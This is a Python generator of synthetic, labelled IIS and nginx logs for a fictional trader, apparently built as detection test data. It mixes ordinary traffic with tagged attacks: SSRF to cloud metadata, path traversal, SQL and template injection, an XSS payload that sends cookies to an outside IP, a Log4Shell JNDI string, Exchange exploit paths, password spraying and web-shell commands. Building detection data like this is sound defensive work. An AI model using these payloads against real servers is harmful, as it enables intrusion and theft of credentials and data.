"""Web servers of a trader: IIS with Exchange and a portal behind it (W3C lines), and nginx before a shop (JSON).

Daily work: portals, mail by web and telephone, reports, health checks, a shop and its application, administrators, feeds that are fetched
from elsewhere, crawlers. Attacks: requests the server is made to send, paths and statements in parameters, passwords and cards tried,
orders counted up, holes of Exchange and what is uploaded by them, shells on the web, and mailboxes guessed. It is not training material:
it was written by a hand that did not know the training scenarios, and its events are not looked at by whoever decides on rules, scenarios
or features.
"""
from __future__ import annotations

import base64
from typing import Optional

from .people import CRAWLERS, FIRST_NAMES, LAST_NAMES, browsers_until
from .site import Site, epoch, iso, utc

START = epoch(2024, 2, 12)
DAYS = 4


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


UAS = browsers_until(125, ["120.0.0.0", "121.0.0.0", "119.0.0.0"])


def quoted(path: str):
    return path.replace(" ", "+")


PRODUCTS = ["oak-desk", "led-lamp-12w", "office-chair-ergo", "paper-a4-500", "usb-c-hub", "whiteboard-90x60"]


def marks(group: str, technique: str):
    return dict(label=1, group=group, technique=technique)


FOREIGN_AGENTS = UAS[:6] * 2 + ["python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "sqlmap/1.8#stable (https://sqlmap.org)",
                                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.0.0 Safari/537.36",
                                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000029)", None]
FORGED_REQUESTS = ["/img-proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
                   "/img-proxy?url=http://[::ffff:a9fe:a9fe]/latest/user-data", "/img-proxy?url=file:///etc/passwd",
                   "/img-proxy?url=gopher%3A%2F%2F127.0.0.1%3A6379%2F_FLUSHALL",
                   "/admin/api/import?url=http%3A%2F%2Flocalhost%3A2375%2Fcontainers%2Fjson",
                   "/img-proxy?url=http%3A%2F%2F10.60.2.11%3A9200%2F_cat%2Findices",
                   "/img-proxy?url=http://metadata.google.internal/computeMetadata/v1/",
                   "/img-proxy?url=https%3A%2F%2Fc1a2.oast.fun%2Fx&w=1", "/img-proxy?url=http%3A%2F%2F2852039166%2F",
                   "/img-proxy?url=http%3A%2F%2F0x7f000001%3A8080%2Factuator%2Fenv"]
PATHS = ["/download?file=../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fproc%2fself%2fenviron",
         "/download?file=....//....//....//etc/hosts", "/files/manuals/..%252f..%252fconfig/database.yml", "/assets../.env",
         "/download?file=/var/www/app/.env", "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/download?file=invoice_1.pdf%00.php",
         "/.git/HEAD", "/.env", "/backup.zip", "/actuator/heapdump", "/server-status", "/api/v1/swagger.json", "/.aws/credentials",
         "/config.json.bak", "/phpinfo.php", "/debug/pprof/heap"]
INJECTIONS = ["/search?q=%27%20OR%201%3D1--%20-", "/product/oak-desk'%20AND%20SLEEP(5)--%20",
              "/api/v1/products?ids=1)%20UNION%20SELECT%20email,password,3%20FROM%20users--%20-&currency=EUR",
              "/category/office?page=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))--",
              "/search?q=1%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
              "/api/v1/products?ids=(SELECT(0)FROM(SELECT(SLEEP(6)))v)&currency=EUR",
              "/export/orders.csv?from=2024-01-01%27||(select%20pg_sleep(5))--",
              "/search?q=%3Cimg%20src%3Dx%20onerror%3Dfetch(%60//45.87.43.9/%60%2Bdocument.cookie)%3E", "/search?q={{7*7}}",
              "/search?q=${jndi:ldap://194.87.31.4:1389/a}", "/account/reset?token[$ne]=1",
              "/search?q=%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D",
              "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "/api/v1/ping?host=127.0.0.1;id",
              r"/index.php?s=/index/think\app/invokefunction&function=call_user_func_array&vars[0]=md5"]


class IisNginx(Site):
    """IIS and nginx of a trader."""

    name = "iis_nginx"
    host = "web01"
    sourcetype = "iis"
    seed = 2525

    def build(self) -> None:
        self.prepare()
        self.portal()
        self.shop()
        self.intruders()
        self.probes()
        self.accounts_tried()
        self.exchange_holes()
        self.web_shells()
        self.mailboxes_guessed()

    def daily(self):
        return self.moment(START, DAYS)

    def iis(self, at: float, method: str, path: str, query, status, address: str, agent: str, user: str = "-", referrer: str = "-",
            substatus: int = 0, win_status: int = 0, milliseconds=None, server_address: str = "10.60.1.21", port: int = 443, label: int = 0,
            group: Optional[str] = None, technique: Optional[str] = None, sizes=None) -> None:
        self.add(at, f"{utc(at).strftime('%Y-%m-%d %H:%M:%S')} {server_address} {method} {path} {query or '-'} {port} {user} "
                 f"{address} {quoted(agent) if agent else '-'} {referrer} {status} {substatus} {win_status} "
                 f"{int(sizes or int(self.rng.lognormvariate(8.3, 1.4)))} {self.rng.randint(250, 2400)} "
                 f"{milliseconds if milliseconds is not None else int(self.rng.lognormvariate(3.5, 1.3))}", label, group, technique,
                 "IIS-PRD1", "ms:iis:auto")

    def nginx(self, at: float, method: str, uri, status, address: str, agent: str, referrer: str = "", label: int = 0,
              group: Optional[str] = None, technique: Optional[str] = None, body=None, host: str = "shop.northwall.example", upstream=None,
              seconds=None, forwarded_for=None, user: str = "-") -> None:
        self.add(at, {"time_iso8601": iso(at, 0, "+00:00"), "remote_addr": address if forwarded_for is None else "10.60.0.5",
                      "x_forwarded_for": forwarded_for or address, "remote_user": user, "host": host, "request_method": method,
                      "request_uri": uri, "server_protocol": self.weighted({"HTTP/1.1": 3, "HTTP/2.0": 5}), "status": status,
                      "body_bytes_sent": body if body is not None else int(self.rng.lognormvariate(8, 1.7)),
                      "request_length": self.rng.randint(200, 1800) if method != "POST" else self.rng.randint(400, 9000),
                      "http_referer": referrer, "http_user_agent": agent or "", "request_time": round(seconds if seconds is not None
            else self.rng.lognormvariate(-3, 1.2), 3), "upstream_addr": upstream
                      or (f"10.60.2.{self.rng.randint(11, 13)}:8080" if status not in (301, 304, 444) else ""),
                      "upstream_status": str(status), "upstream_response_time": f"{self.rng.lognormvariate(-3.2, 1.1):.3f}",
                      "ssl_protocol": "TLSv1.3", "request_id": self.hex(32)}, label, group, technique, "edge-ngx1", "nginx:json")

    def any_moment(self):
        return day_hour(self.rng.randrange(DAYS), self.rng.random() * 24)

    def prepare(self) -> None:
        """Who and what is there."""
        self.inside_addresses = [f"10.60.4.{self.rng.randint(10, 250)}" for _ in range(25)]
        self.public_addresses = [self.address() for _ in range(160)]
        self.users = [f"NWL\\{self.choice(FIRST_NAMES)[0]}{self.choice(LAST_NAMES)}" for _ in range(22)]

    def portal(self) -> None:
        """IIS: a portal, mail and documents."""
        for _ in range(600):
            at = self.daily()
            dice = self.weighted({0: 6, 1: 5, 2: 4, 3: 3, 4: 3, 5: 2, 6: 2, 7: 2, 8: 2, 9: 1, 10: 1, 11: 1, 12: 1, 13: 1, 14: 1})
            address = self.choice(self.inside_addresses + self.public_addresses[:40])
            agent = self.choice(UAS[:14])
            path = self.choice(self.users)
            if dice == 0:
                self.iis(at, "GET", self.choice(["/", "/Default.aspx", "/Content/site.css", "/Scripts/jquery-3.6.0.min.js",
                    "/bundles/modernizr", "/favicon.ico", "/Images/logo.png", "/ScriptResource.axd", "/WebResource.axd"]),
                         self.choice(["-", f"v={self.token(43)}", f"d={self.token(86)}&t={self.hex(16)}"]),
                         self.weighted({200: 6, 304: 5, 404: 0.5}), address, agent,
                         referrer=self.choice(["-", "https://portal.northwall.example/"]))
            elif dice == 1:
                self.iis(at, self.choice(["POST", "GET"]), "/owa/"
                         + self.choice(["service.svc", "ev.owa2", "", "auth/logon.aspx", "sessiondata.ashx"]),
                         self.choice([f"action=GetConversationItems&EP=1&ID=-{self.rng.randint(10, 900)}&AC=1",
                                      "ns=PendingRequest&ev=PendingNotificationRequest&UA=0",
                                      "url=https%3a%2f%2fmail.northwall.example%2fowa%2f&reason=0"]),
                         self.weighted({200: 9, 302: 1, 440: 0.6, 401: 0.5}), address, agent, user=path if self.rng.random() < 0.8
                         else "-")
            elif dice == 2:
                self.iis(at, "POST", "/Microsoft-Server-ActiveSync/default.eas",
                         "Cmd={}&User={}&DeviceId={}&DeviceType={}&CorrelationID=<empty>;&cafeReqId={};".format(self.choice(["Ping",
                    "Sync", "FolderSync", "SendMail"]), path.replace("\\", "%5C"), self.key_text(26),
                    self.choice(["iPhone", "Android", "SamsungDevice"]), self.uuid()), self.weighted({200: 9, 401: 1, 503: 0.2}),
                         self.choice(self.public_addresses), self.choice(["Apple-iPhone14C2/2103.92", "Android-SAMSUNG-SM-A546B/101.14",
                    "Outlook-iOS-Android/1.0"]), user=path)
            elif dice == 3:
                self.iis(at, "GET", "/Reports/Pages/ReportViewer.aspx",
                         f"%2fSales%2fMonthly&rs:Command=Render&Month={self.rng.randint(1, 12)}",
                         self.weighted({200: 5, 401: 2, 500: 0.4}), self.choice(self.inside_addresses), agent, user=path,
                         milliseconds=self.rng.randint(200, 20000), substatus=0)
            elif dice == 4:
                self.iis(at, "POST", "/api/orders/search", "-", self.weighted({200: 9, 400: 0.7, 500: 0.3}), address,
                         self.choice([agent, "Northwall-Mobile/4.2 (iOS 17.2)"]), user=self.choice(["-", path]))
            elif dice == 5:
                self.iis(at, "GET", "/health.aspx", "-", 200, "10.60.1.5", "ELB-HealthChecker/2.0" if self.rng.random() < 0.5
                         else "Microsoft+SCOM", milliseconds=1, port=80)
            elif dice == 6:
                self.iis(at, "GET", "/Account/Login", "ReturnUrl=%2FOrders%2FDetails%2F" + self.digits(5), 200, address, agent)
            elif dice == 7:
                self.iis(at, "POST", "/Account/Login", "-", self.weighted({302: 6, 200: 2}), address, agent,
                         referrer="https://portal.northwall.example/Account/Login")
            elif dice == 8:
                self.iis(at, "GET", "/autodiscover/autodiscover.xml", "-", 401, address,
                         "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)", substatus=self.choice([1, 2]),
                         win_status=self.choice([5, 2148074254]))
            elif dice == 9:
                self.iis(at, "POST", "/EWS/Exchange.asmx", "-", self.weighted({200: 6, 401: 2}), address,
                         self.choice(["MacOutlook/16.81.24020411 (Intelx64 Mac OS X Version 13.6)",
                                      "ExchangeServicesClient/15.01.2507.000", "Apple Mail"]), user=path)
            elif dice == 10:
                self.iis(at, "GET", "/Download.ashx",
                         f"file={self.choice(['catalogue-2024', 'price list', 'manual..v2']).replace(' ', '%20')}.pdf&id="
                         f"{self.rng.randint(1, 9000)}", self.weighted({200: 8, 404: 1}), address, agent)
            elif dice == 11:
                self.iis(at, self.weighted({"GET": 5, "PROPFIND": 1, "OPTIONS": 1}), "/docs/"
                         + self.choice(["", "Templates/Quote.docx", "HR/leave form.docx".replace(" ", "+")]), "-",
                         self.weighted({200: 4, 401: 2, 207: 1, 405: 0.5}), self.choice(self.inside_addresses),
                         "Microsoft-WebDAV-MiniRedir/10.0.19045", user=path)
            elif dice == 12:
                self.iis(at, "GET", self.choice(["/robots.txt", "/sitemap.xml", "/wp-login.php",
                    f"/Products/Detail/{self.rng.randint(1, 900)}", "/old/index.asp"]), "-", self.choice([200, 404, 301]),
                         self.address("66.249"), self.choice(CRAWLERS[:6]))
            elif dice == 13:
                self.iis(at, "GET", self.choice(["/", "/test.aspx", "/admin/", "/..%255c..%255cwindows/win.ini", "/search.aspx"]),
                         self.choice(["-", "q=<script>alert(1)</script>", "id=1'"]), self.choice([404, 403, 400]), "10.60.1.99",
                         "Mozilla/5.0 (compatible; Qualys WAS; +https://www.qualys.com)", milliseconds=3)
            else:
                self.iis(at, "GET", "/Products/Search",
                         "term={}&sort={}&page={}".format(self.choice(["chair", "o'neill+desk", "select+committee+table",
                    "drop+leaf+table", "50%25+off", "<br>lamp"]), self.choice(["price", "name+asc"]), self.rng.randint(1, 9)),
                         self.weighted({200: 9, 500: 0.4}), address, agent)

    def shop(self) -> None:
        """nginx: a shop."""
        for _ in range(680):
            at = self.daily()
            address = self.choice(self.public_addresses)
            agent = self.choice(UAS)
            dice = self.weighted({0: 9, 1: 5, 2: 4, 3: 3, 4: 3, 5: 2, 6: 2, 7: 2, 8: 2, 9: 1, 10: 1, 11: 1})
            if dice == 0:
                self.nginx(at, "GET", self.choice(["/", f"/product/{self.choice(PRODUCTS)}",
                    f"/category/office?page={self.rng.randint(1, 9)}", f"/assets/app.{self.hex(8)}.js",
                    f"/assets/img/{self.hex(12)}.webp", "/cart", "/about"]), self.weighted({200: 8, 304: 3, 404: 0.5, 301: 0.4}),
                           address, agent, self.choice(["", "https://www.google.com/", "https://shop.northwall.example/"]))
            elif dice == 1:
                self.nginx(at, "GET",
                           f"/api/v1/products?ids={','.join(self.digits(4) for _ in range(self.rng.randint(1, 6)))}&currency=EUR", 200,
                           address, agent, "https://shop.northwall.example/")
            elif dice == 2:
                self.nginx(at, "GET",
                           f"/search?q={self.choice(['desk+lamp', 'union+jack+mug', 'chair%20%26%20table', '%D1%81%D1%82%D0%BE%D0%BB', '../a4', 'admin+desk', '100%25', 'x%27y'])}",
                           self.weighted({200: 9, 400: 0.4}), address, agent)
            elif dice == 3:
                self.nginx(at, "POST", "/api/v1/auth/login", self.weighted({200: 6, 401: 2, 429: 0.2}), address,
                           self.choice([agent, "NorthwallApp/4.2.1 (Android 14)"]), "https://shop.northwall.example/login",
                           body=self.rng.choice([612, 88, 91]))
            elif dice == 4:
                self.nginx(at, "POST", self.choice(["/api/v1/cart/items", "/graphql", "/api/v1/checkout", "/collect"]),
                           self.weighted({200: 8, 201: 2, 422: 1, 500: 0.2}), address, agent)
            elif dice == 5:
                self.nginx(at, "GET", self.choice(["/healthz", "/metrics", "/api/v1/ping"]), 200,
                           self.choice(["10.60.0.9", "10.60.0.10"]),
                           self.choice(["kube-probe/1.28", "Prometheus/2.48.1",
                                        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"]), body=2)
            elif dice == 6:
                self.nginx(at, "GET", self.choice([f"/product/{self.choice(PRODUCTS)}", "/robots.txt", "/sitemap.xml",
                    "/wp-sitemap.xml", "/.well-known/security.txt", "/apple-app-site-association", "/ads.txt"]),
                           self.weighted({200: 6, 404: 3}), self.address("40.77"), self.choice(CRAWLERS))
            elif dice == 7:
                self.nginx(at, "POST", "/webhooks/stripe", self.weighted({200: 9, 400: 1}), self.address("54.187"),
                           "Stripe/1.0 (+https://stripe.com/docs/webhooks)", host="api.northwall.example")
            elif dice == 8:
                self.nginx(at, self.choice(["GET", "PUT", "DELETE"]), f"/admin/api/orders/{self.rng.randint(10000, 99999)}",
                           self.weighted({200: 8, 403: 1}), self.choice(self.inside_addresses), self.choice(UAS[:4]),
                           host="backoffice.northwall.example", user=self.choice(self.users).split("\\")[1])
            elif dice == 9:
                self.nginx(at, "POST", "/admin/api/import?url=https%3A%2F%2Fsupplier-feed.example%2Fstock.csv", 200,
                           self.choice(self.inside_addresses), self.choice(UAS[:4]), host="backoffice.northwall.example",
                           seconds=self.rng.uniform(1, 30))
            elif dice == 10:
                self.nginx(at, "GET",
                           f"/img-proxy?url=https%3A%2F%2Fcdn.supplier{self.rng.randint(1, 6)}.example%2F{self.hex(6)}.jpg&w=400",
                           self.weighted({200: 9, 502: 0.6}), address, agent)
            else:
                self.nginx(at, "GET", self.choice(["/export/orders.csv?from=2024-01-01", f"/files/manuals/{self.choice(PRODUCTS)}.pdf",
                    f"/download?file=invoice_{self.digits(6)}.pdf", f"/account/reset?token={self.token(64)}"]),
                           self.weighted({200: 8, 404: 0.6, 410: 0.3}), address, agent)

    def intruders(self) -> None:
        """From where."""
        self.foreign = [f"194.87.31.{self.rng.randint(2, 250)}",
                        f"45.87.43.{self.rng.randint(2, 250)}"] + self.rng.sample(self.public_addresses, 5)

    def probes(self) -> None:
        """Requests the server is made to send, paths and statements."""
        for lines, group, technique, count in [(FORGED_REQUESTS, "ssrf", "T1190", 18), (PATHS, "traversal_probe", "T1083", 30),
                                               (INJECTIONS, "injection", "T1190", 34)]:
            for _ in range(count):
                self.nginx(self.any_moment(), self.weighted({"GET": 8, "POST": 1}), self.choice(lines),
                           self.weighted({200: 4, 404: 4, 403: 3, 400: 2, 500: 2, 502: 0.5}),
                           self.choice(self.foreign + [self.address()]), self.choice(FOREIGN_AGENTS),
                           seconds=self.weighted([(None, 6), (5.01 + self.rng.random(), 1)]), **marks(group, technique))

    def accounts_tried(self) -> None:
        """Passwords tried, and orders counted up."""
        for number in range(70):
            self.nginx(day_hour(1, 2) + number * self.rng.uniform(0.5, 400), "POST", "/api/v1/auth/login",
                       self.weighted({401: 20, 429: 3, 200: 1, 403: 1}),
                       self.choice([self.address(), self.choice(self.public_addresses), self.address("45.87")]),
                       self.choice(UAS[:3] + ["okhttp/4.9.3", "NorthwallApp/4.2.1 (Android 14)", "python-requests/2.31.0"]),
                       self.choice(["", "https://shop.northwall.example/login"]), body=self.rng.choice([88, 91, 91, 612]),
                       **marks("cred_stuffing", "T1110.004"))
        for number in range(26):
            self.nginx(day_hour(2, 4) + number * self.rng.uniform(0.5, 30), "GET", f"/admin/api/orders/{41000 + number}" if number % 2
                       else f"/api/v1/users/{900 + number}/profile", self.weighted({200: 6, 403: 3, 404: 2}), self.choice(self.foreign),
                       self.choice(FOREIGN_AGENTS[:6]), host=self.choice(["backoffice.northwall.example", "shop.northwall.example"]),
                       user=self.choice(["-", self.users[3].split("\\")[1]]), **marks("idor_scrape", "T1213"))

    def exchange_holes(self) -> None:
        """Holes of Exchange and of others."""
        for _ in range(34):
            path, query, method = self.choice([("/autodiscover/autodiscover.json",
                                                "@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com", "POST"),
                                               ("/autodiscover/autodiscover.json",
                                                f"a=a@edu.edu/powershell/?X-Rps-CAT={self.token(120)}", "POST"),
                                               ("/ecp/y.js", "-", "POST"), ("/ecp/DDI/DDIService.svc/SetObject",
                f"schema=OABVirtualDirectory&msExchEcpCanary={self.token(60)}", "POST"),
                                               ("/owa/auth/Current/themes/resources/logon.css", "-", "POST"),
                                               ("/ews/exchange.asmx", "X-ClientId=x", "POST"), ("/owa/auth/x.js", "-", "GET"),
                                               ("/mapi/nspi/", "MailboxId=x@northwall.example", "POST"),
                                               ("/Reports/Pages/ReportViewer.aspx",
                                                f"NavigationCorrector$PageState=NeedsCorrection&__VIEWSTATE={self.token(300)}", "POST"),
                                               ("/_layouts/15/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx", "POST"),
                                               ("/Account/Login", f"__VIEWSTATE=/wEy{self.token(200)}&__VIEWSTATEGENERATOR=C2EE9ABB",
                                                "GET"), ("/Telerik.Web.UI.WebResource.axd", "type=rau", "POST"),
                                               ("/Download.ashx", r"file=..\..\web.config", "GET"),
                                               ("/Download.ashx", "file=..%5c..%5c..%5cwindows%5cwin.ini&id=1", "GET"),
                                               ("/Products/Search", "term=x%27;EXEC+xp_cmdshell+%27whoami%27--", "GET"),
                                               ("/Products/Search", "term=1%27+UNION+ALL+SELECT+NULL,name,NULL+FROM+sysobjects--",
                                                "GET"), ("/trace.axd", "-", "GET"), ("/elmah.axd", "-", "GET"),
                                               ("/human2.aspx", "-", "GET"), ("/aspnet_client/", "-", "GET"),
                                               ("/web.config", "-", "GET")])
            self.iis(self.any_moment(), method, path, query, self.weighted({200: 5, 500: 3, 404: 3, 302: 2, 401: 1, 241: 0.2}),
                     self.choice(self.foreign + [self.address()]), self.choice(FOREIGN_AGENTS[:10]), substatus=0,
                     **marks("iis_exploit", "T1190"))

    def web_shells(self) -> None:
        """Shells on the web."""
        for _ in range(40):
            file = self.choice(["/owa/auth/errorFE.aspx", "/aspnet_client/system_web/sys.aspx", "/Content/thumb.ashx",
                                "/Images/logo_s.aspx", "/aspnet_client/discover.aspx", "/docs/help.ashx"])
            self.iis(day_hour(2, self.rng.random() * 40), self.weighted({"POST": 6, "GET": 3}), file,
                     self.weighted({"-": 6, "cmd=whoami": 1, "c=net+user+/domain": 1,
                                    "exec_code=Response.Write(new+ActiveXObject(%22WScript.Shell%22).exec(%22cmd+/c+dir%22))": 0.5,
                                    r"p=C:\inetpub&a=ls": 1, f"pass={self.hex(8)}": 1}), self.weighted({200: 9, 500: 1, 404: 0.5}),
                     self.choice(self.foreign[:4]), self.choice(FOREIGN_AGENTS[:8]),
                     referrer=self.choice(["-", "https://mail.northwall.example/owa/auth/logon.aspx"]),
                     milliseconds=self.rng.randint(20, 9000), user=self.choice(["-", "-", self.users[2]]),
                     **marks("webshell", "T1505.003"))

    def mailboxes_guessed(self) -> None:
        """Mailboxes guessed, and a shell of the shop."""
        for number in range(30):
            self.iis(day_hour(3, 1) + number * self.rng.uniform(0.5, 500), "POST",
                     self.choice(["/EWS/Exchange.asmx", "/owa/auth.owa", "/Microsoft-Server-ActiveSync/default.eas",
                                  "/autodiscover/autodiscover.xml", "/Account/Login"]), "-", self.weighted({401: 9, 302: 2, 200: 0.6}),
                     self.choice(self.foreign + [self.address("185.220")]),
                     self.choice(FOREIGN_AGENTS[:8] + ["Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
                "ExchangeServicesClient/15.01.2507.000"]), user=self.choice(self.users + ["-", "-"]), substatus=1, win_status=1326,
                     **marks("owa_spray", "T1110.003"))
        for number in range(12):
            self.nginx(day_hour(3, 5) + number * 300, self.choice(["GET", "POST"]),
                       self.choice([
                                    f"/assets/img/cache.php?x={base64.b64encode(self.choice([b'id', b'cat /etc/passwd', b'ls -la /var/www'])).decode()}",
                                    f"/uploads/avatar_{self.hex(6)}.phtml", f"/assets/img/{self.hex(4)}.jsp?pwd=023&i=whoami",
                                    "/uploads/a.php"]), self.weighted({200: 6, 404: 1}), self.choice(self.foreign[:4]),
                       self.choice(FOREIGN_AGENTS[:8]), **marks("webshell", "T1505.003"))
